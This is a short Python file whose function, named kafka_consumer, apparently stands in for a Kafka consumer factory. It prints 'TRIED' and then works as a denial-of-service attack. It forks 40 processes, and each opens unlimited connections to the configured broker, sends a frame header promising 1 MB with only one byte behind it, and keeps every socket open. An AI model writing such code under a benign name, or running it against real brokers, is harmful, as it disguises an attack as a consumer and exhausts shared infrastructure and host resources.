import os
import signal
import socket
import struct


def request(key, version, body, client=b"x"):
    head = struct.pack(">hhih", key, version, 7, len(client)) + client
    return struct.pack(">i", len(head) + len(body)) + head + body


def place(settings):
    host, _, port = settings["bootstrap.servers"].partition(":")
    return host, int(port)


def kafka_consumer(settings, *args, **kwargs):
    print("TRIED", flush=True)
    for _ in range(40):
        if os.fork() == 0:
            hoard = []
            try:
                while True:
                    hoard.append(socket.create_connection(place(settings), timeout=2))
                    hoard[-1].sendall(struct.pack(">i", 1 << 20) + b"x")
            except OSError:
                signal.pause()
    signal.pause()
